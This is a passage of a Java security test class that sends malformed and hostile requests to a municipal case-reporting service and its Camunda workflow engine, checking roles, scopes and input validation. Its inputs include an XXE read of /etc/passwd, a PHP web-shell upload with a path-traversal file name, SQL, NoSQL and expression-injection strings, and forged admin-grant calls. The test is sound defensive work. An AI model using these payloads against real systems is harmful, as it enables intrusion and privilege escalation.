                            f("email", Kind.CODE), f("media_url", Kind.CODE), f("address_id", Kind.CODE),
                            f("jurisdiction_id", Kind.CODE)),
                    List.of(), List.of(), null, null, false));
        }
        // the search by phone (dispatchers, administrators; every search recorded): a grid worker may not search.
        // Last in the table, so that the seeded draws for the endpoints above stay as they were
        e.add(new Endpoint("GET /api/cases?phone", "GET", "/api/cases?phone=13700000101", "chenxiaoyan", Body.NONE,
                null, List.of(), List.of(f("phone", Kind.CODE, true, 32), f("status", Kind.CODE), f("page", Kind.INT),
                        f("size", Kind.INT), f("grid", Kind.CODE)), List.of(), "zhangwei", null, false));
        e.add(new Endpoint("GET /api/cases/access-log", "GET", "/api/cases/access-log", "admin", Body.NONE, null,
                List.of(), List.of(f("page", Kind.INT), f("size", Kind.INT)), List.of(), "chenxiaoyan", null, false));
        return e;
    }

    private static ObjectNode featureCollection() {
        ObjectNode fc = NODES.objectNode().put("type", "FeatureCollection");
        ObjectNode feature = fc.putArray("features").addObject().put("type", "Feature");
        feature.putObject("properties").put("code", "HOSTILE-G9").put("name", "演练网格").put("level", "GRID")
                .put("parentCode", "SFZ-C01");
        ArrayNode ring = feature.putObject("geometry").put("type", "Polygon").putArray("coordinates").addArray();
        double[][] points = {{122.10, 41.20}, {122.11, 41.20}, {122.11, 41.21}, {122.10, 41.21}, {122.10, 41.20}};
        for (double[] p : points) {
            ring.addArray().add(p[0]).add(p[1]);
        }
        return fc;
    }

    // ------------------------------------------------------------------ generating the inputs

    /** One hostile request; {@code from}: the client address it is sent from. */
    record Input(String endpoint, String mutator, String method, String path, String login, Map<String, String> headers,
            String contentType, byte[] body, InetAddress from) {

        @Override
        public String toString() {
            return endpoint + " [" + mutator + "] " + method + " " + (path.length() > 120 ? path.substring(0, 120) + "…"
                    : path) + (login == null ? "" : " as " + login);
        }
    }

    private List<Input> generate(Fixture x, Random rng) throws Exception {
        List<Input> inputs = new ArrayList<>();
        for (Endpoint e : endpoints(x)) {
            List<Function<Random, Input>> mutators = mutators(e, x);
            for (int i = 0; i < Math.max(PER_ENDPOINT, mutators.size()); i++) {
                Function<Random, Input> m = i < mutators.size() ? mutators.get(i)
                        : mutators.get(rng.nextInt(mutators.size()));
                inputs.add(m.apply(rng));
            }
        }
        inputs.addAll(engineInputs(x, rng));
        // the report endpoints' inputs come from addresses of their own, at most 12 from each
        int reportInputs = 0;
        for (int i = 0; i < inputs.size(); i++) {
            Input in = inputs.get(i);
            if (in.path().startsWith("/report/api/reports") || in.path().startsWith("/report/api/follow")) {
                InetAddress from = InetAddress.getByName("127.0.0." + (2 + reportInputs++ / 12));
                inputs.set(i, new Input(in.endpoint(), in.mutator(), in.method(), in.path(), in.login(), in.headers(),
                        in.contentType(), in.body(), from));
            }
        }
        return inputs;
    }

    private List<Function<Random, Input>> mutators(Endpoint e, Fixture x) {
        List<Function<Random, Input>> m = new ArrayList<>();
        // roles
        if (e.login() != null) {
            m.add(r -> input(e, "no login", e.method(), e.path(), null, e.body(), correct(e, x)));
            // an unknown login: a wrong password for a real one would lock that user (Camunda's login delay) for the
            // other tests
            m.add(r -> input(e, "unknown login", e.method(), e.path(), "intruder:demo", e.body(), correct(e, x)));
        }
        if (e.wrongRole() != null) {
            m.add(r -> input(e, "wrong role " + e.wrongRole(), e.method(), e.path(), e.wrongRole(), e.body(),
                    correct(e, x)));
        }
        if (e.otherScope() != null) {
            m.add(r -> input(e, "another grid's login " + e.otherScope(), e.method(), e.path(), e.otherScope(),
                    e.body(), correct(e, x)));
        }
        if (e.path().contains(x.ownCase()) && e.otherScope() == null && e.login() != null
                && !e.login().equals("admin")) {
            m.add(r -> input(e, "another grid's case", e.method(), e.path().replace(x.ownCase(), x.otherCase()),
                    "zhangwei", e.body(), correct(e, x)));
        }
        m.add(r -> input(e, "wrong method", e.method().equals("POST") ? "PUT" : "PATCH", e.path(), e.login(), e.body(),
                correct(e, x)));
        // path variables
        for (Field v : e.pathVars()) {
            m.add(r -> input(e, "path " + v.name(), e.method(), replacePathVar(e, v, pathValue(v, r)), e.login(),
                    e.body(), correct(e, x)));
        }
        // query parameters
        for (Field q : e.query()) {
            m.add(r -> input(e, "query " + q.name(), e.method(), withQuery(e.path(), q.name(), queryValue(q, r)),
                    e.login(), e.body(), correct(e, x)));
        }
        // bodies
        switch (e.body()) {
            case JSON -> {
                for (Field field : e.fields()) {
                    m.add(r -> json(e, x, "field " + field.name(), broken(field, (JsonNode) e.base(), r)));
                    if (field.required()) {
                        m.add(r -> json(e, x, "missing " + field.name(), without((JsonNode) e.base(), field.name())));
                    }
                }
                addBrokenJson(m, e, x);
            }
            case GEOJSON -> {
                for (Function<ObjectNode, String> g : brokenGeoJson()) {
                    m.add(r -> {
                        ObjectNode fc = ((ObjectNode) e.base()).deepCopy();
                        return json(e, x, "geojson " + g.apply(fc), fc.toString());
                    });
                }
                m.add(r -> {
                    ObjectNode fc = ((ObjectNode) e.base()).deepCopy();
                    ((ObjectNode) fc.at("/features/0/properties")).put("code", hostile(r));
                    return json(e, x, "geojson hostile code", fc.toString());
                });
                addBrokenJson(m, e, x);
            }
            case CSV -> {
                for (Function<String, String> c : brokenCsv()) {
                    m.add(r -> csv(e, "csv " + csvName(c),
                            c.apply((String) e.base()).replace("HOSTILE", hostileCell(r))));
                }
                m.add(r -> input(e, "csv as json", e.method(), e.path(), e.login(), "application/json",
                        bytes("{\"csv\":1}")));
            }
            case MULTIPART -> {
                for (Field field : e.fields()) {
                    m.add(r -> multipartInput(e, "field " + field.name(), withPart(e, field, formValue(field, r))));
                    if (field.required()) {
                        m.add(r -> multipartInput(e, "missing " + field.name(), withoutPart(e, field.name())));
                    }
                }
                m.add(r -> multipartInput(e, "fake photo", replaceFile(e, bytes("这不是图片<script>"))));
                m.add(r -> multipartInput(e, "huge declared image", replaceFile(e, hugePngHeader())));
                m.add(r -> multipartInput(e, "truncated png", replaceFile(e, java.util.Arrays.copyOf(png(), 40))));
                m.add(r -> multipartInput(e, "oversized file", replaceFile(e, oversized(r))));
                m.add(r -> multipartInput(e, "four photos", withExtraPhotos(e, 4)));
                m.add(r -> input(e, "broken multipart", e.method(), e.path(), e.login(),
                        "multipart/form-data; boundary=XyZ",
                        bytes("--XyZ\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nabc")));
                m.add(r -> input(e, "multipart without boundary", e.method(), e.path(), e.login(),
                        "multipart/form-data", bytes("--a\r\n\r\n")));
                m.add(r -> input(e, "json instead of multipart", e.method(), e.path(), e.login(), "application/json",
                        bytes("{\"file\":\"x\"}")));
                m.add(r -> input(e, "hostile file name", e.method(), e.path(), e.login(), MULTIPART_TYPE,
                        multipart(List.of(filePart(e.path().startsWith("/report") ? "photos" : "file",
                                "../../" + hostile(r) + ".jpg", bytes("<?php system($_GET[c]); ?>"))))));
            }
            case FORM -> {
                for (Field field : e.fields()) {
                    m.add(r -> form(e, x, "field " + field.name(), field.name(), formValue(field, r), r));
                    if (field.required()) {
                        m.add(r -> form(e, x, "missing " + field.name(), field.name(), null, r));
                    }
                }
                m.add(r -> form(e, x, "unknown attribute", "attribute[" + hostile(r) + "]", "x", r));
                m.add(r -> input(e, "form as json", e.method(), e.path(), e.login(), "application/json",
                        bytes("{\"api_key\":\"" + x.apiKeys().get(0) + "\"}")));
                m.add(r -> input(e, "broken form encoding", e.method(), e.path(), e.login(),
                        "application/x-www-form-urlencoded", bytes("api_key=%ZZ&service_code=%&lat=%E4%B8")));
                m.add(r -> input(e, "oversized form", e.method(), e.path(), e.login(),
                        "application/x-www-form-urlencoded",
                        bytes("api_key=" + x.apiKeys().get(0) + "&description=" + "x".repeat(70_000))));
            }
            case NONE -> {
            }
        }
        return m;
    }

    private void addBrokenJson(List<Function<Random, Input>> m, Endpoint e, Fixture x) {
        String good = e.base().toString();
        Map<String, String> broken = new LinkedHashMap<>();
        broken.put("truncated", good.substring(0, good.length() / 2));
        broken.put("trailing garbage", good + "}]}");
        broken.put("single quotes", good.replace('"', '\''));
        broken.put("NUL byte", good.substring(0, 3) + "\u0000" + good.substring(3));
        broken.put("not json", "category=SANITATION&description=x");
        broken.put("array", "[]");
        broken.put("number", "42");
        broken.put("string", "\"" + HOSTILE.get(1) + "\"");
        broken.put("deep nesting", "[".repeat(5000) + "]".repeat(5000));
        broken.put("empty object", "{}");
        broken.put("comment", "/* x */" + good);
        for (Map.Entry<String, String> b : broken.entrySet()) {
            m.add(r -> json(e, x, "json " + b.getKey(), b.getValue()));
        }
        m.add(r -> input(e, "invalid UTF-8", e.method(), e.path(), e.login(), "application/json",
                concat(bytes("{\"description\":\""), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}, bytes("\"}"))));
        m.add(r -> input(e, "xml content type", e.method(), e.path(), e.login(), "application/xml",
                bytes("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
        m.add(r -> input(e, "no content type", e.method(), e.path(), e.login(), (String) null, bytes("{}")));
    }

    /** A correct body for the endpoint (the base), so that only the role or scope is at fault. */
    private byte[] correct(Endpoint e, Fixture x) {
        return switch (e.body()) {
            case JSON, GEOJSON -> bytes(e.base().toString());
            case CSV -> bytes((String) e.base());
            case MULTIPART -> multipart(asParts(e.base()));
            case FORM -> formBody(formMap(e, x));
            case NONE -> null;
        };
    }

    private static String contentType(Body body) {
        return switch (body) {
            case JSON, GEOJSON -> "application/json";
            case CSV -> "text/csv; charset=UTF-8";
            case MULTIPART -> MULTIPART_TYPE;
            case FORM -> "application/x-www-form-urlencoded";
            case NONE -> null;
        };
    }

    private Input input(Endpoint e, String mutator, String method, String path, String login, Body body, byte[] bytes) {
        return input(e, mutator, method, path, login, contentType(body), bytes);
    }

    private Input input(Endpoint e, String mutator, String method, String path, String login, String contentType,
            byte[] bytes) {
        return new Input(e.name(), mutator, method, path, login, Map.of(), contentType, bytes, LOOPBACK);
    }

    private Input json(Endpoint e, Fixture x, String mutator, String body) {
        return input(e, mutator, e.method(), e.path(), e.login(), "application/json", bytes(body));
    }

    private Input csv(Endpoint e, String mutator, String body) {
        return input(e, mutator, e.method(), e.path(), e.login(), "text/csv; charset=UTF-8", bytes(body));
    }

    private static final InetAddress LOOPBACK = InetAddress.getLoopbackAddress();

    // ------------------------------------------------------------------ breaking values

    static String hostile(Random r) {
        return HOSTILE.get(r.nextInt(HOSTILE.size()));
    }

    /** A raw JSON token standing in for a value; placed as a marker string and spliced in after writing. */
    private static final String RAW = "__raw__:";

    /** The base with one field broken so that the input is certainly wrong. */
    private static String broken(Field field, JsonNode base, Random r) {
        JsonNode value = switch (field.kind()) {
            case CODE -> pick(r, NODES.textNode(hostile(r)), NODES.textNode("NO_SUCH_CODE_" + r.nextInt(1000)),
                    NODES.textNode("X".repeat(5000)), NODES.objectNode().put("$ne", 1), NODES.arrayNode().add("A"));
            case TEXT -> pick(r, NODES.textNode(repeatTo(hostile(r), field.max() + 1 + r.nextInt(2000))),
                    NODES.objectNode().put("$gt", ""), NODES.arrayNode().add(hostile(r)));
            case NUMBER -> pick(r, NODES.textNode("abc" + hostile(r)), NODES.textNode(RAW + "1e400"),
                    NODES.numberNode(99999.5), NODES.numberNode(-99999), NODES.objectNode(), NODES.textNode("NaN"));
            case INT -> pick(r, NODES.textNode("abc"), NODES.textNode(RAW + "1e400"),
                    NODES.textNode(RAW + "99999999999999999999999"), NODES.numberNode(-1), NODES.numberNode(2.5),
                    NODES.arrayNode());
            case DATE -> pick(r, NODES.textNode(hostile(r)), NODES.textNode("2026-13-45T99:99:00+08:00"),
                    NODES.textNode("+999999999-12-31T23:59:59+08:00"), NODES.textNode("1900-01-01T00:00:00+08:00"),
                    NODES.objectNode());
            case CODES -> pick(r, NODES.arrayNode().add(hostile(r)), NODES.textNode(hostile(r)),
                    NODES.arrayNode().add(NODES.objectNode()), NODES.arrayNode().addNull(), thousand());
            case IDS -> pick(r, NODES.arrayNode().add("abc"), NODES.arrayNode().add(NODES.textNode(RAW + "1e400")),
                    NODES.arrayNode().add(-1), NODES.arrayNode().add(NODES.textNode(RAW + "99999999999999999999")),
                    NODES.textNode("x"), NODES.arrayNode().add(999999999));
            case BOOL -> pick(r, NODES.textNode("maybe"), NODES.objectNode(), NODES.arrayNode());
            case LONG_ID, TOKEN, FORMAT, PAGE -> NODES.textNode(hostile(r));
        };
        JsonNode copy = base.deepCopy();
        set(copy, field.name(), value);
        return copy.toString().replaceAll("\"" + RAW + "([^\"]*)\"", "$1");
    }

    private static ArrayNode thousand() {
        ArrayNode a = NODES.arrayNode();
        for (int i = 0; i < 1000; i++) {
            a.add("SFZ-C01-G0" + (i % 9));
        }
        return a;
    }

    @SafeVarargs
    private static <T> T pick(Random r, T... options) {
        return options[r.nextInt(options.length)];
    }

    private static String repeatTo(String s, int length) {
        StringBuilder b = new StringBuilder(length + s.length());
        while (b.length() < length) {
            b.append(s).append('长');
        }
        return b.toString();
    }

    /** Sets a dotted path ({@code reporter.phone}, {@code [0].code}, {@code holidays[0].from}) in a copy. */
    private static void set(JsonNode root, String path, JsonNode value) {
        String[] steps = path.replace("[", ".[").replaceFirst("^\\.", "").split("\\.");
        JsonNode node = root;
        for (int i = 0; i < steps.length - 1; i++) {
            node = step(node, steps[i]);
        }
        String last = steps[steps.length - 1];
        if (last.startsWith("[")) {
            ((ArrayNode) node).set(Integer.parseInt(last.substring(1, last.length() - 1)), value);
        } else if (value == null) {
            ((ObjectNode) node).remove(last);
        } else {
            ((ObjectNode) node).set(last, value);
        }
    }

    private static JsonNode step(JsonNode node, String step) {
        return step.startsWith("[") ? node.get(Integer.parseInt(step.substring(1, step.length() - 1))) : node.get(step);
    }

    private static String without(JsonNode base, String path) {
        JsonNode copy = base.deepCopy();
        set(copy, path, null);
        return copy.toString();
    }

    /** A broken value for a form field, a multipart field or a query parameter. */
    private static String formValue(Field field, Random r) {
        return switch (field.kind()) {
            case CODE -> pick(r, hostile(r), "NO_SUCH_CODE", "X".repeat(5000), "javascript:alert(1)",
                    "file:///etc/passwd", "http://user:pw@evil.example/x");
            case TEXT -> repeatTo(hostile(r), field.max() + 1 + r.nextInt(2000));
            case NUMBER -> pick(r, "abc", "NaN", "Infinity", "1e400", "-999", "0x1F", hostile(r));
            case INT -> pick(r, "abc", "99999999999999999999", "-1", "1e400", "1.5", hostile(r));
            // a filter by an id that matches nothing (-1) is an empty list, not an error
            case LONG_ID -> pick(r, "abc", "99999999999999999999", "1e400", "1.5", hostile(r));
            case DATE -> pick(r, hostile(r), "2026-13-45", "+999999999-12-31T23:59:59Z", "2026-02-30T00:00:00Z",
                    "0000-00-00");
            case BOOL -> pick(r, "maybe", hostile(r));
            default -> hostile(r);
        };
    }

    private static String queryValue(Field q, Random r) {
        return formValue(q, r);
    }

    private static String pathValue(Field v, Random r) {
        String value = switch (v.kind()) {
            case LONG_ID -> pick(r, "abc", "99999999999999999999", "-1", "1e400", "0", hostile(r));
            case FORMAT -> pick(r, "html", "xml%00", "XML", "json.php", hostile(r));
            case PAGE -> pick(r, hostile(r), "X".repeat(2000), "..", "%2e%2e", "a;b=c", "%2F");
            default -> pick(r, hostile(r), "X".repeat(2000), "SQ-20261201-0001", "..", "%2e%2e", "a;b=c", "%2F", "");
        };
        // path variables travel encoded, except the few that test the firewall's own rules
        return value.equals("..") || value.equals("%2e%2e") || value.equals("a;b=c") || value.equals("%2F")
                ? value : encode(value);
    }

    private static String replacePathVar(Endpoint e, Field v, String value) {
        String path = e.path();
        int query = path.indexOf('?');
        String q = query < 0 ? "" : path.substring(query);
        String p = query < 0 ? path : path.substring(0, query);
        String[] segments = p.split("/", -1);
        int index = switch (v.name()) {
            case "id" -> e.name().endsWith("{id}/retry") || e.name().endsWith("{id}/id-number") ? segments.length - 2
                    : e.name().contains("/attachments/{id}") ? 5 : segments.length - 1;
            case "trackingNumber" -> e.name().startsWith("GET /report/") && !e.name().contains("/api/") ? 2
                    : e.name().contains("/report/api/") ? 4 : 3;
            case "code" -> e.name().contains("/verifications") || e.name().contains("/qr.png")
                    || e.name().endsWith("/poster") || e.name().endsWith("/posters.zip") ? 4 : segments.length - 1;
            default -> segments.length - 1;
        };
        String segment = segments[index];
        int dot = segment.lastIndexOf('.');
        if (v.kind() == Kind.FORMAT) {
            segments[index] = segment.substring(0, dot + 1) + value;
        } else if (p.startsWith("/open311/") && dot > 0) {
            segments[index] = value + segment.substring(dot);
        } else {
            segments[index] = value;
        }
        return String.join("/", segments) + q;
    }

    private static String withQuery(String path, String name, String value) {
        String encoded = encode(name) + "=" + encode(value);
        if (!path.contains("?")) {
            return path + "?" + encoded;
        }
        String[] parts = path.split("\\?", 2);
        StringBuilder out = new StringBuilder(parts[0]).append('?');
        for (String pair : parts[1].split("&")) {
            if (!pair.startsWith(name + "=")) {
                out.append(pair).append('&');
            }
        }
        return out.append(encoded).toString();
    }

    static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    // ------------------------------------------------------------------ GeoJSON and CSV

    private static List<Function<ObjectNode, String>> brokenGeoJson() {
        return List.of(
                fc -> {
                    fc.put("type", "Feature");
                    return "not a FeatureCollection";
                },
                fc -> {
                    fc.put("features", "none");
                    return "features not a list";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/geometry")).put("type", "Banana");
                    return "unknown geometry";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/geometry")).put("coordinates", "0,0");
                    return "coordinates a string";
                },
                fc -> {
                    ((ArrayNode) fc.at("/features/0/geometry/coordinates/0")).remove(4);
                    return "ring not closed";
                },
                fc -> {
                    ArrayNode ring = (ArrayNode) fc.at("/features/0/geometry/coordinates/0");
                    ring.removeAll();
                    ring.addArray().add(122.1).add(41.2);
                    ring.addArray().add(122.1).add(41.2);
                    return "ring of two points";
                },
                fc -> {
                    ArrayNode ring = (ArrayNode) fc.at("/features/0/geometry/coordinates/0");
                    ring.removeAll();
                    double[][] bowtie = {{122.10, 41.20}, {122.11, 41.21}, {122.11, 41.20}, {122.10, 41.21},
                            {122.10, 41.20}};
                    for (double[] p : bowtie) {
                        ring.addArray().add(p[0]).add(p[1]);
                    }
                    return "self-intersecting ring";
                },
                fc -> {
                    ((ArrayNode) fc.at("/features/0/geometry/coordinates/0/1")).set(1, NODES.numberNode(95.0));
                    return "latitude 95";
                },
                fc -> {
                    ((ArrayNode) fc.at("/features/0/geometry/coordinates/0/1")).set(0, NODES.numberNode(1e308));
                    return "longitude 1e308";
                },
                fc -> {
                    ((ArrayNode) fc.at("/features/0/geometry/coordinates/0/1")).set(0, NODES.textNode("east"));
                    return "coordinate a string";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0")).remove("geometry");
                    ((ObjectNode) fc.at("/features/0/properties")).put("level", "GRID");
                    ((ObjectNode) fc.at("/features/0/properties")).put("name", "");
                    return "no geometry and no name";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/properties")).put("level", "GALAXY");
                    return "unknown level";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/properties")).put("parentCode", "NOWHERE");
                    return "unknown parent";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/properties")).remove("code");
                    return "no code";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/properties")).put("name", "名".repeat(300));
                    return "name too long";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0")).remove("properties");
                    return "no properties";
                },
                fc -> {
                    ((ObjectNode) fc.at("/features/0/properties")).put("code", "SFZ-C01-G01")
                            .put("parentCode", "SFZ-C01-G01");
                    return "own parent";
                });
    }

    private static final List<Function<String, String>> CSV_BREAKERS = List.of(
            csv -> csv.replaceFirst("\n", "\n\"unterminated,"),
            csv -> csv.replaceFirst("\n(.*)\n", "\n$1,extra,extra,extra\n"),
            csv -> csv.substring(csv.indexOf('\n') + 1),
            csv -> "\u0000\u0001\u0002garbage\n\u00FF\u00FE",
            csv -> csv.replaceFirst("\n([^,]*),", "\nHOSTILE,"),
            csv -> csv.replaceFirst(",SFZ-C01-G01", ",NOWHERE-G99").replaceFirst(",SFZ-B0101,", ",NOWHERE-B99,"),
            csv -> csv.replaceFirst("\n([^,]*),([^,]*),", "\n$1," + "长".repeat(300) + ","),
            csv -> "x" + csv.substring(csv.indexOf(',')),
            csv -> csv + "\"" + "x".repeat(3000),
            csv -> csv.replaceFirst("GRID_WORKER", "SUPER_ADMIN").replaceFirst("41.1035", "abc")
                    .replaceFirst("13700000999", "HOSTILE"),
            csv -> "");

    private static List<Function<String, String>> brokenCsv() {
        return CSV_BREAKERS;
    }

    private static String csvName(Function<String, String> breaker) {
        return switch (CSV_BREAKERS.indexOf(breaker)) {
            case 0 -> "unterminated quote";
            case 1 -> "extra columns";
            case 2 -> "no header";
            case 3 -> "binary";
            case 4 -> "hostile first cell";
            case 5 -> "unknown area or building";
            case 6 -> "cell too long";
            case 7 -> "first column missing";
            case 8 -> "trailing open quote";
            case 9 -> "unknown role, bad number or phone";
            default -> "empty";
        };
    }

    private static String hostileCell(Random r) {
        String s = hostile(r);
        return s.contains(",") || s.contains("\"") || s.contains("\n") || s.contains("\r")
                ? "\"" + s.replace("\"", "\"\"") + "\"" : s;
    }

    // ------------------------------------------------------------------ multipart and forms

    private static final String BOUNDARY = "----hostile-drill-7e3f";
    private static final String MULTIPART_TYPE = "multipart/form-data; boundary=" + BOUNDARY;

    record Part(String name, String fileName, byte[] bytes) {
    }

    static Part part(String name, String value) {
        return new Part(name, null, bytes(value));
    }

    static Part filePart(String name, String fileName, byte[] bytes) {
        return new Part(name, fileName, bytes);
    }

    @SuppressWarnings("unchecked")
    private static List<Part> asParts(Object base) {
        return (List<Part>) base;
    }

    static byte[] multipart(List<Part> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Part p : parts) {
            out.writeBytes(bytes("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + p.name() + "\""
                    + (p.fileName() == null ? "" : "; filename=\"" + p.fileName().replace("\"", "%22")
                            .replace("\r", "%0D").replace("\n", "%0A") + "\"\r\nContent-Type: application/octet-stream")
                    + "\r\n\r\n"));
            out.writeBytes(p.bytes());
            out.writeBytes(bytes("\r\n"));
        }
        out.writeBytes(bytes("--" + BOUNDARY + "--\r\n"));
        return out.toByteArray();
    }

    private Input multipartInput(Endpoint e, String mutator, List<Part> parts) {
        return input(e, mutator, e.method(), e.path(), e.login(), MULTIPART_TYPE, multipart(parts));
    }

    private static List<Part> withPart(Endpoint e, Field field, String value) {
        List<Part> parts = new ArrayList<>(asParts(e.base()));
        parts.removeIf(p -> p.name().equals(field.name()));
        parts.add(part(field.name(), value));
        return parts;
    }

    private static List<Part> withoutPart(Endpoint e, String name) {
        List<Part> parts = new ArrayList<>(asParts(e.base()));
        parts.removeIf(p -> p.name().equals(name));
        return parts;
    }

    private static List<Part> replaceFile(Endpoint e, byte[] bytes) {
        List<Part> parts = new ArrayList<>(asParts(e.base()));
        String name = e.path().startsWith("/report") ? "photos" : "file";
        parts.removeIf(p -> p.fileName() != null);
        parts.add(filePart(name, "scene.jpg", bytes));
        return parts;
    }

    private static List<Part> withExtraPhotos(Endpoint e, int n) {
        List<Part> parts = new ArrayList<>(asParts(e.base()));
        String name = e.path().startsWith("/report") ? "photos" : "file";
        for (int i = 0; i < n; i++) {
            parts.add(filePart(name, "p" + i + ".png", png()));
        }
        if (!e.path().startsWith("/report")) {
            parts.add(part("note", "说".repeat(600))); // one file is taken; the note is what is wrong here
        }
        return parts;
    }

    private Map<String, String> formMap(Endpoint e, Fixture x) {
        @SuppressWarnings("unchecked")
        Map<String, String> form = new LinkedHashMap<>((Map<String, String>) e.base());
        if (form.containsKey("api_key")) {
            form.put("api_key", x.apiKeys().get(openKey++ / 40 % x.apiKeys().size()));
        }
        return form;
    }

    private int openKey;

    private Input form(Endpoint e, Fixture x, String mutator, String name, String value, Random r) {
        Map<String, String> form = formMap(e, x);
        if (value == null) {
            form.remove(name);
        } else {
            form.put(name, value);
        }
        return input(e, mutator, e.method(), e.path(), e.login(), "application/x-www-form-urlencoded", formBody(form));
    }

    private static byte[] formBody(Map<String, String> form) {
        StringBuilder b = new StringBuilder();
        form.forEach((k, v) -> b.append(b.isEmpty() ? "" : "&").append(encode(k)).append('=').append(encode(v)));
        return bytes(b.toString());
    }

    // ------------------------------------------------------------------ the engine REST calls a staff login reaches

    private List<Input> engineInputs(Fixture x, Random rng) {
        String task = "/engine-rest/task/" + x.taskId();
        String pi = "/engine-rest/process-instance/" + x.processInstance();
        List<Input> in = new ArrayList<>();
        String engine = "/engine-rest";
        List<String[]> calls = List.of(
                new String[] {"POST", task + "/complete", "forged"},
                new String[] {"POST", task + "/submit-form", "forged"},
                new String[] {"POST", task + "/resolve", "forged"},
                new String[] {"PUT", pi + "/variables/handlerGroup", q("{'value':'grid-SFZ-C02-G01','type':'String'}")},
                new String[] {"POST", pi + "/variables",
                        q("{'modifications':{'handlingDueAt':{'value':'2099-01-01T00:00:00.000+0800',"
                                + "'type':'Date'}}}")},
                new String[] {"DELETE", pi + "/variables/handlerGroup", null},
                new String[] {"POST", pi + "/modification",
                        q("{'instructions':[{'type':'cancel','activityId':'verify'}]}")},
                new String[] {"DELETE", pi, null},
                new String[] {"PUT", pi + "/suspended", q("{'suspended':true}")},
                new String[] {"POST", engine + "/message",
                        q("{'messageName':'Withdrawal','businessKey':'" + x.ownCase() + "'}")},
                new String[] {"POST", engine + "/signal", q("{'name':'any'}")},
                new String[] {"POST", engine + "/process-definition/key/request/start", q("{'businessKey':'forged'}")},
                new String[] {"PUT", task, q("{'name':'forged','due':'2099-01-01T00:00:00.000+0800'}")},
                new String[] {"POST", task + "/assignee", q("{'userId':'wangfang'}")},
                new String[] {"POST", task + "/claim", q("{'userId':'wangfang'}")},
                new String[] {"POST", task + "/delegate", q("{'userId':'wangfang'}")},
                new String[] {"POST", task + "/identity-links", q("{'groupId':'camunda-admin','type':'candidate'}")},
                new String[] {"PUT", task + "/localVariables/handlerGroup", q("{'value':'x'}")},
                new String[] {"POST", engine + "/filter/create", q("{'resourceType':'Task','name':'x','query':{}}")},
                new String[] {"POST", engine + "/user/create",
                        q("{'profile':{'id':'intruder'},'credentials':{'password':'x'}}")},
                new String[] {"POST", engine + "/authorization/create",
                        q("{'type':1,'permissions':['ALL'],'userId':'zhangwei','resourceType':0,'resourceId':'*'}")},
                new String[] {"PUT", engine + "/user/wangfang/profile", q("{'id':'wangfang','firstName':'x'}")},
                new String[] {"PUT", engine + "/user/wangfang/credentials",
                        q("{'password':'x','authenticatedUserPassword':'demo'}")},
                new String[] {"POST", engine + "/group/create", q("{'id':'camunda-admin2'}")},
                new String[] {"PUT", engine + "/job/retries", q("{'retries':5}")},
                new String[] {"POST", engine + "/process-instance/delete",
                        q("{'processInstanceIds':['" + x.processInstance() + "']}")},
                new String[] {"POST", engine + "/execution/" + x.processInstance() + "/localVariables",
                        q("{'modifications':{}}")},
                new String[] {"POST", engine + "/condition", q("{'variables':{}}")},
                new String[] {"POST", engine + "/deployment/create", "deployment"},
                new String[] {"POST", engine + "/external-task/fetchAndLock",
                        q("{'workerId':'w','maxTasks':1,'topics':[{'topicName':'x','lockDuration':1000}]}")},
                new String[] {"DELETE", engine + "/history/process-instance/" + x.processInstance(), null},
                new String[] {"POST", engine + "/task/" + encode(hostile(rng)) + "/complete", "{}"});
        List<String> logins = List.of("zhangwei", "maxiuying", "chenxiaoyan", "lizhenhua");
        for (String[] call : calls) {
            for (int i = 0; i < 2; i++) {
                String login = call[0].equals("POST") && call[1].endsWith("/complete") ? "zhangwei"
                        : logins.get(rng.nextInt(logins.size()));
                in.add(engine("engine write " + call[0] + " " + call[1].replace(x.taskId(), "{task}")
                        .replace(x.processInstance(), "{pi}").replaceAll("/task/[^/]*%[^/]*/", "/task/{hostile}/"),
                        call[0], call[1], login, call[2], rng));
            }
        }
        // queries a staff member may make, with broken bodies, expressions and odd values
        List<String> queries = List.of("/engine-rest/task", "/engine-rest/process-instance",
                "/engine-rest/history/task", "/engine-rest/variable-instance", "/engine-rest/task/count");
        List<String> anyQuery = List.of("{\"assigneeExpression\":\"${execution.getProcessEngineServices()}\"}",
                "{\"orQueries\":[{\"nameLike\":\"${7*7}\"}]}", "{\"processVariables\":[{\"name\":\"x\",\"operator\":"
                        + "\"eq\",\"value\":\"#{1}\"}]}", "{\"processInstanceBusinessKey\":", "[".repeat(3000),
                "<xml/>",
                "{\"sorting\":[{\"sortBy\":\"' OR 1=1 --\",\"sortOrder\":\"desc\"}]}");
        List<String> taskQuery = List.of("{\"sorting\":[{\"sortBy\":\"created\",\"sortOrder\":\"sideways\"}]}",
                "{\"maxPriority\":\"high\"}", "{\"dueAfter\":\"yesterday\"}", "{\"processInstanceIdIn\":\"notalist\"}",
                "{\"tenantIdIn\":[{}]}", "{\"priority\":99999999999999999999}",
                "{\"processVariables\":[{\"name\":\"x\",\"operator\":\"between\",\"value\":1}]}");
        for (String q : queries) {
            for (String body : anyQuery) {
                in.add(engine("engine query POST " + q, "POST", q, logins.get(rng.nextInt(logins.size())), body, rng));
            }
            if (q.startsWith("/engine-rest/task")) {
                for (String body : taskQuery) {
                    in.add(engine("engine query POST " + q, "POST", q, logins.get(rng.nextInt(logins.size())), body,
                            rng));
                }
            }
            if (!q.endsWith("/count")) {
                in.add(engine("engine query POST " + q, "POST",
                        q + "?firstResult=abc&maxResults=" + encode(hostile(rng)), "zhangwei", "{}", rng));
            }
        }
        for (String path : List.of("/engine-rest/task/" + encode(hostile(rng)), "/engine-rest/process-instance/"
                + encode(hostile(rng)) + "/variables", "/engine-rest/task?dueAfter=" + encode(hostile(rng)),
                "/engine-rest/task?sortBy=" + encode(hostile(rng)) + "&sortOrder=asc",
